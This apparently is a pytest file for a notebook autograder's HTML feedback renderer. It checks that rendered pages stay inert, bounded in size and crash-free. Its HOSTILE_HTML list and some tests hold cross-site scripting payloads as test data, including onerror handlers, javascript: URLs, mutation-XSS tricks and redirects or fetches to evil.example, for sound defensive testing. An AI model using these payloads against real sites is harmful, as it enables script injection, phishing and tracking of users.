"""The HTML feedback page: inert whatever the student wrote, never a crash, bounded in size.

Each hostile construct is put in a notebook, the page is parsed with :mod:`html.parser`, and
the test asserts that nothing active survived (scripts, forms, frames, refresh, ``<base>``,
event handlers, off-page links, ``javascript:`` URLs).
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
import tempfile
import textwrap
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import grader.reports.notebook_html as notebook_html
from grader.notebook import read_submission
from grader.reports import feedback_html
from grader.results import CheckResult, SubmissionResult

_ACTIVE_TAGS = {"script", "form", "base", "iframe", "frame", "object", "embed", "link", "input"}
_ACTIVE_TAGS |= {"button", "applet", "frameset", "portal", "template", "math"}
_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}


class _Page(HTMLParser):
    """Collects what an inert page must not have."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.csp: list[str] = []
        self.in_style = False
        self.style = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag in _ACTIVE_TAGS:
            self.problems.append(f"<{tag}>")
        if tag == "meta":
            equiv = values.get("http-equiv", "").lower()
            if equiv == "content-security-policy":
                self.csp.append(values.get("content", ""))
            elif equiv:
                self.problems.append(f"<meta http-equiv={equiv}>")
        if tag == "svg":
            self.problems.append("inline <svg>")
        for name, value in values.items():
            if name.startswith("on"):
                self.problems.append(f"{name}= on <{tag}>")
            if name == "style" and "url(" in value.lower():
                self.problems.append(f"style with url() on <{tag}>")
            if name in _URL_ATTRIBUTES:
                self._check_url(tag, name, value)
        self.in_style = tag == "style"

    def _check_url(self, tag: str, name: str, value: str) -> None:
        url = "".join(value.split()).lower()
        if url.startswith("javascript:") or "javascript:" in url:
            self.problems.append(f"javascript: URL in <{tag} {name}>")
        elif name == "href" and not url.startswith("#"):
            self.problems.append(f"navigation <{tag} href={value[:40]!r}>")
        elif name == "src" and not url.startswith("data:image/"):
            self.problems.append(f"fetch <{tag} src={value[:40]!r}>")

    def handle_endtag(self, tag: str) -> None:
        self.in_style = False

    def handle_data(self, data: str) -> None:
        if self.in_style:
            self.style += data


def _inert(page: str) -> _Page:
    parser = _Page()
    parser.feed(page)
    parser.close()
    assert parser.problems == []
    assert len(parser.csp) == 1
    csp = parser.csp[0]
    assert "default-src 'none'" in csp
    assert "form-action 'none'" in csp
    assert "base-uri 'none'" in csp
    assert "script-src" not in csp
    return parser


def _sub(path: Path, **kw: Any) -> SubmissionResult:
    tests = (
        CheckResult("f.shapes", "f", 0.0, 5.0, "failed", "<script>alert(1)</script>", "visible"),
    )
    fields: dict[str, Any] = {
        "id": "alice",
        "path": str(path),
        "sha256": "0" * 64,
        "status": "graded",
        "error": None,
        "score": 0.0,
        "max_score": 5.0,
        "duration_s": 0.1,
        "tests": tests,
    }
    fields.update(kw)
    return SubmissionResult(**fields)


def _code(source: str, outputs: list[Any] | None = None, **extra: Any) -> dict[str, Any]:
    cell = {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": source}
    return {**cell, "outputs": outputs or [], **extra}


def _md(source: str, **extra: Any) -> dict[str, Any]:
    return {"cell_type": "markdown", "metadata": {}, "source": source, **extra}


def _display(data: Any, **extra: Any) -> dict[str, Any]:
    return {"output_type": "display_data", "metadata": {}, "data": data, **extra}


def _write(tmp_path: Path, cells: list[Any], name: str = "nb", **top: Any) -> Path:
    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells, **top}
    path = tmp_path / f"{name}.ipynb"
    path.write_text(json.dumps(notebook), encoding="utf-8")
    return path


HOSTILE_HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/track.png'>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name=p><button>go</button></form>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="https://evil.example/phish">your grade</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
    "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<div style=\"background:url('https://evil.example/y')\" onclick=alert(1)>div</div>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<details open ontoggle=alert(1)>x</details>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--><script>alert(1)</script>-->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<a href="  JaVaScRiPt:alert(1)">spaced</a>',
]


@pytest.mark.parametrize("snippet", HOSTILE_HTML)
def test_hostile_html_everywhere_comes_out_inert(tmp_path: Path, snippet: str) -> None:
    cells = [
        _md(f"# Title\n\n{snippet}\n\ntext [link](javascript:alert(1)) ![i](https://evil/x.png)"),
        _code(
            "def f():\n    pass",
            [
                _display({"text/html": snippet, "text/plain": "plain"}),
                _display({"text/markdown": snippet}),
                _display(
                    {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{snippet}</svg>"}
                ),
                _display({"application/javascript": "alert(1)"}),
                _display({"text/vnd.mermaid": snippet}),
                _display({"application/vnd.jupyter.widget-view+json": {"model_id": "x"}}),
                {
                    "output_type": "execute_result",
                    "metadata": {},
                    "execution_count": 1,
                    "data": {"text/html": snippet},
                },
                {"output_type": "stream", "name": "stdout", "text": snippet},
                {
                    "output_type": "error",
                    "ename": snippet,
                    "evalue": snippet,
                    "traceback": [snippet],
                },
            ],
        ),
        {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": snippet},
        {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": snippet},
    ]
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": {}, "x": snippet}}
    path = _write(tmp_path, cells, metadata={"widgets": widgets, "title": snippet})
    page = feedback_html(str(path), _sub(path, id=f"x{snippet}"))
    _inert(page)


def test_student_text_and_safe_formatting_survive(tmp_path: Path) -> None:
    table = "<table><tr><th>a</th></tr><tr><td><b>bold</b></td></tr></table>"
    png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9aw"
    cells = [
        _md("## My *answer*\n\nSee [below](#below).\n\n<b>kept</b>"),
        _code("def f():\n    return 42", [_display({"text/html": table, "image/png": png})]),
        _code("print('hi')", [_display({"image/png": png})]),
    ]
    page = feedback_html(str(_write(tmp_path, cells)), _sub(tmp_path / "nb.ipynb"))
    _inert(page)
    assert "<b>bold</b>" in page and "<b>kept</b>" in page and "<th>a</th>" in page
    assert 'href="#below"' in page
    assert f"data:image/png;base64,{png}" in page
    assert "return" in page and "42" in page


def _odd_notebooks() -> dict[str, dict[str, Any]]:
    code = "def f():\n    return 1"
    v4 = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}}
    return {
        "non_string_stream_text": {
            **v4,
            "cells": [_code(code, [{"output_type": "stream", "name": "stdout", "text": 5}])],
        },
        "non_string_mime_data": {
            **v4,
            "cells": [
                _code(
                    code,
                    [
                        _display({"image/svg+xml": 5}),
                        _display({"image/png": {"a": 1}, "text/plain": None}),
                        _display({"text/html": ["<b>x</b>", 3]}),
                        _display(["not", "a", "dict"]),
                    ],
                )
            ],
        },
        "odd_output_shapes": {
            **v4,
            "cells": [
                _code(
                    code,
                    [
                        "just a string",
                        {"no": "type"},
                        {"output_type": "error", "traceback": "not a list"},
                        {"output_type": "execute_result", "data": {"text/plain": "1"}},
                        {"output_type": "stream"},
                        {"output_type": "weird"},
                    ],
                    execution_count="seven",
                ),
                _code("x = 1", "outputs-not-a-list"),
            ],
        },
        "odd_metadata": {
            **v4,
            "metadata": {"language_info": {"name": 5}, "kernelspec": [], "title": 7},
            "cells": [
                _code(code, metadata={"tags": "not-a-list", "jupyter": 3}),
                _md("# hi", metadata=None, id=["not", "a", "string"]),
                _md("![pic](attachment:a.png)", attachments={"a.png": {"image/png": 5}}),
                _md("![pic](attachment:b.png)", attachments="broken"),
            ],
        },
        "missing_fields": {
            **v4,
            "cells": [
                {"cell_type": "code", "source": code},
                {"cell_type": "markdown", "source": ["a", "b"]},
            ],
        },
        "nbformat3": {
            "nbformat": 3,
            "nbformat_minor": 0,
            "metadata": {},
            "worksheets": [
                {
                    "cells": [
                        {"cell_type": "heading", "level": 2, "source": "Title"},
                        {
                            "cell_type": "code",
                            "input": code,
                            "language": "python",
                            "outputs": [
                                {
                                    "output_type": "pyout",
                                    "prompt_number": 1,
                                    "text": "1",
                                    "html": "<i>1</i>",
                                },
                                {"output_type": "stream", "stream": "stdout", "text": "printed"},
                                {
                                    "output_type": "pyerr",
                                    "ename": "E",
                                    "evalue": "v",
                                    "traceback": ["t"],
                                },
                                {"output_type": "display_data", "png": 7, "javascript": "alert(1)"},
                            ],
                            "prompt_number": 1,
                        },
                    ]
                }
            ],
        },
    }


@pytest.mark.parametrize("name", sorted(_odd_notebooks()))
def test_any_notebook_the_reader_accepts_gets_a_page(tmp_path: Path, name: str) -> None:
    path = tmp_path / f"{name}.ipynb"
    path.write_text(json.dumps(_odd_notebooks()[name]), encoding="utf-8")
    read_submission(str(path))  # the reader accepts it (else it would be graded "invalid")
    page = feedback_html(str(path), _sub(path))
    _inert(page)
    assert "return" in page  # the student's code is on the page


def test_nbconvert_failure_falls_back_to_plain_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(nb: Any, title: str) -> str:
        raise RuntimeError("nbconvert broke")

    monkeypatch.setattr(notebook_html, "_export", broken)
    cells = [_code("def f():\n    return '<script>alert(1)</script>'", [])]
    path = _write(tmp_path, cells)
    page = feedback_html(str(path), _sub(path, id="a\ud800\x1b[31mb"))
    _inert(page)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # the message and the source
    assert "def f():" in page
    assert "Score: 0 / 5" in page


def test_lone_surrogates_and_controls_in_notebook_render(tmp_path: Path) -> None:
    path = tmp_path / "s.ipynb"
    cells = [_md("bad \ud800 char \x00 nul"), _code("def f():\n    return '\udfff'", [])]
    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}
    path.write_text(json.dumps(notebook), encoding="utf-8")  # ASCII: \ud800 escapes
    page = feedback_html(str(path), _sub(path))
    _inert(page)
    page.encode("utf-8")  # writable as UTF-8 as it is
    assert "char" in page


def test_long_notebook_is_cut_with_visible_notes(tmp_path: Path) -> None:
    from grader.reports._notebook_view import MAX_CELLS, TRUNCATED

    out = {"output_type": "stream", "name": "stdout", "text": "y" * 20_000}
    cells = [_code("def f():\n    return 1", [out])]
    cells += [_code(f"x = {n}") for n in range(MAX_CELLS + 50)]
    page = feedback_html(str(_write(tmp_path, cells)), _sub(tmp_path / "nb.ipynb"))
    assert TRUNCATED in page
    assert "51 more cells not shown" in page
    assert f"x = {MAX_CELLS + 10}" not in page
    assert "y" * 20_000 not in page


def test_images_are_capped_one_by_one_and_in_total(tmp_path: Path) -> None:
    from grader.reports._notebook_view import IMAGE_BUDGET

    big = "A" * 2_000_000
    medium = "B" * 900_000
    cells = [_code("plot()", [_display({"image/png": big, "text/plain": "<Figure>"})])]
    cells += [_code("plot()", [_display({"image/png": medium})]) for _ in range(10)]
    cells += [_code("plot()", [_display({"image/png": 'not base64 " onerror=x'})])]
    page = feedback_html(str(_write(tmp_path, cells)), _sub(tmp_path / "nb.ipynb"))
    _inert(page)
    assert big not in page
    assert page.count(medium) == IMAGE_BUDGET // len(medium)
    assert "image not shown: it is too large" in page
    assert "image not shown: the notebook holds too many images" in page
    assert "image not shown: it is not valid base64" in page
    assert "&lt;Figure&gt;" in page


_CHILD = """
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
from grader.reports import feedback_html
from grader.results import SubmissionResult
sub = SubmissionResult(id="big", path=sys.argv[1], sha256="0" * 64, status="graded",
                       error=None, score=0.0, max_score=0.0, duration_s=0.0, tests=())
page = feedback_html(sys.argv[1], sub)
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, len(page))
"""


@pytest.mark.slow
def test_feedback_for_a_24_mb_notebook_stays_under_1_gib(tmp_path: Path) -> None:
    # 400,000 tiny outputs: the old renderer's page and copies of it went past 1 GiB.
    outputs = [{"output_type": "stream", "name": n, "text": "x\n"} for n in ("stdout", "stderr")]
    cells = [_code("print(1)", outputs * 50) for _ in range(4000)]
    path = _write(tmp_path, cells)
    assert path.stat().st_size > 20_000_000
    done = subprocess.run(
        [sys.executable, "-c", textwrap.dedent(_CHILD), str(path)],
        capture_output=True,
        text=True,
        timeout=300,  # ~10 s expected, even on a busy machine
        cwd=Path(__file__).resolve().parents[1],
    )
    assert done.returncode == 0, done.stderr[-2000:]
    peak_kib, size = map(int, done.stdout.split())
    assert peak_kib < 1 << 20
    assert size < 5_000_000


def test_markdown_has_its_own_tighter_budget(tmp_path: Path) -> None:
    # Markdown rendering is superlinear on some inputs, so less of it is shown than of code.
    from grader.reports._notebook_view import MARKDOWN_BUDGET, MARKDOWN_CELL_LIMIT

    cells = [_md("Q" * 2 * MARKDOWN_CELL_LIMIT) for _ in range(8)]
    cells.append(_code("x = 1", [_display({"text/markdown": "Q" * 4000})] * 20))
    page = feedback_html(str(_write(tmp_path, cells)), _sub(tmp_path / "nb.ipynb"))
    assert "(text truncated)" in page
    shown = sum(len(run) for run in re.findall("Q{100,}", page))  # the CSS has Qs too
    assert 0 < shown <= MARKDOWN_BUDGET


class _PreText(HTMLParser):
    """Collects the text that sits inside <pre> elements."""

    def __init__(self) -> None:
        super().__init__()
        self.depth = 0
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.depth += tag == "pre"

    def handle_endtag(self, tag: str) -> None:
        self.depth -= tag == "pre" and self.depth > 0

    def handle_data(self, data: str) -> None:
        if self.depth:
            self.text.append(data)


def test_markup_dense_markdown_is_shown_as_plain_text(tmp_path: Path) -> None:
    # mistune's inline parser is superlinear in nested delimiters (10,000 `[` take seconds), so
    # Markdown with more delimiters than prose ever has is fenced, cell and output alike; prose
    # with LaTeX superscripts still renders as Markdown.
    dense, prose = "[" * 5000, "The **weights** $W^{[1]}$ and $b^{[1]}$, see [the notes](#a)."
    cells = [_md(dense), _md(prose), _code("x", [_display({"text/markdown": "*_" * 2000})])]
    page = feedback_html(str(_write(tmp_path, cells)), _sub(tmp_path / "nb.ipynb"))
    parser = _PreText()
    parser.feed(page)
    inside = "".join(parser.text)
    assert dense in inside and "*_" * 2000 in inside
    assert "<strong>weights</strong>" in page and "weights" not in inside


_json = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=10,
)
_keys = st.sampled_from(
    ["cell_type", "source", "input", "outputs", "output_type", "name", "stream", "text", "data",
     "traceback", "ename", "evalue", "execution_count", "prompt_number", "level", "id",
     "metadata", "attachments", "png", "html", "svg", "text/html", "image/png",
     "image/svg+xml", "text/markdown", "text/plain", "application/javascript"]
)  # fmt: skip
_values = st.one_of(
    _json,
    st.sampled_from(["code", "markdown", "raw", "heading", "stream", "error", "display_data",
                     "execute_result", "pyout", "pyerr", "stderr", "<script>x</script>"]),
)  # fmt: skip
_node = st.recursive(
    _values, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(_keys, inner, max_size=6),
    max_leaves=30,
)  # fmt: skip
_notebooks = st.fixed_dictionaries(
    {"nbformat": st.sampled_from([3, 4]), "cells": st.lists(_node, max_size=5)},
    optional={"worksheets": st.lists(st.dictionaries(st.just("cells"), st.lists(_node)))},
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_notebooks)
def test_the_view_takes_any_json_shape(raw: dict[str, Any]) -> None:
    from grader.reports._notebook_view import notebook_view

    view = notebook_view(raw)
    for cell in view.cells:
        assert cell.cell_type in ("code", "markdown") and isinstance(cell.source, str)
        for output in cell.get("outputs", []):
            assert output.output_type in ("stream", "error", "display_data")
            assert all(isinstance(v, str) for v in output.get("data", {}).values())


@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_notebooks)
def test_any_json_shape_gets_an_inert_page(raw: dict[str, Any]) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "nb.ipynb"
        path.write_text(json.dumps(raw), encoding="utf-8")
        _inert(feedback_html(str(path), _sub(path)))
